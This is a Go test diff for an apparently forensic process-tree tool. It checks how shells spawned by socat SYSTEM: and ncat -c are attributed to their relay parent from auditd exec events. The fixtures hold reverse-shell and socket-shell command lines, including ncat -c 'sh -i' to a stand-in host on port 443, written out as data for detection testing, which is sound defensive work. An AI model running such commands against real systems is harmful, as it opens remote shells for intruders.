@@ -147,3 +147,56 @@ func FuzzNamesCommand(f *testing.F) {
 		namesCommand(cmd, prog)
 	})
 }
+
+// TestRelayParentGuess: socat SYSTEM:cmd forks a child that hands cmd to
+// /bin/sh -c, and that fork never execs: the shell names an unseen parent.
+// It is hung under the relay when the relay holds the pid just below, as
+// the same user, just before, and its argv holds the shell's whole
+// command — before the daemon guess, which would take an older shell of
+// the same image (desk-attachname: alice's ~/.ssh/rc).
+func TestRelayParentGuess(t *testing.T) {
+	at := time.Unix(1_700_000_000, 0).UTC()
+	exec := func(ms int, pid, ppid int, uid uint32, exe string, args ...string) *Event {
+		return &Event{Kind: KindExec, Time: at.Add(time.Duration(ms) * time.Millisecond), PID: pid, PPID: ppid,
+			UID: NewID(uid), EUID: NewID(uid), Exe: exe, Args: args, Success: true, Source: FormatAuditd, Syscall: "execve"}
+	}
+	rc := exec(0, 3353, 3352, 2002, "/usr/bin/dash", "/bin/sh", "/home/alice/.ssh/rc")
+	tests := []struct {
+		name  string
+		relay *Event
+		child *Event
+		want  Guess
+	}{
+		{"socat SYSTEM: hands the command over",
+			exec(100, 3355, 3354, 2002, "/usr/bin/socat", "socat", "UDP4:127.0.0.1:5300", "SYSTEM:echo ready; exec sh 2>&1"),
+			exec(130, 3357, 3356, 2002, "/usr/bin/dash", "sh", "-c", "echo ready; exec sh 2>&1"), GuessRelay},
+		{"nc -c hands the command over",
+			exec(100, 3355, 3354, 2002, "/usr/bin/ncat", "ncat", "-c", "sh -i 2>&1", "192.0.2.4", "443"),
+			exec(130, 3357, 3356, 2002, "/usr/bin/dash", "sh", "-c", "sh -i 2>&1"), GuessRelay},
+		{"another user's shell is no relay's child",
+			exec(100, 3355, 3354, 2002, "/usr/bin/socat", "socat", "UDP4:127.0.0.1:5300", "SYSTEM:echo ready; exec sh 2>&1"),
+			exec(130, 3357, 3356, 0, "/usr/bin/dash", "sh", "-c", "echo ready; exec sh 2>&1"), GuessNone},
+		{"a command the relay does not hold",
+			exec(100, 3355, 3354, 2002, "/usr/bin/socat", "socat", "UDP4:127.0.0.1:5300", "SYSTEM:echo ready; exec sh 2>&1"),
+			exec(130, 3357, 3356, 2002, "/usr/bin/dash", "sh", "-c", "id; hostname"), GuessDaemon},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			tr := NewTree()
+			for _, ev := range []*Event{rc, tc.relay, tc.child} {
+				e := *ev
+				tr.Observe(&e)
+			}
+			q := tr.ByPID("", 3357)[0].Parent
+			if q == nil || q.Key.PID != 3356 {
+				t.Fatalf("parent of the shell: %+v", q)
+			}
+			if q.ParentGuess != tc.want {
+				t.Errorf("guess %v, want %v", q.ParentGuess, tc.want)
+			}
+			if tc.want == GuessRelay && (q.Parent == nil || q.Parent.Key.PID != 3355) {
+				t.Errorf("hung under %+v, want the relay 3355", q.Parent)
+			}
+		})
+	}
+}
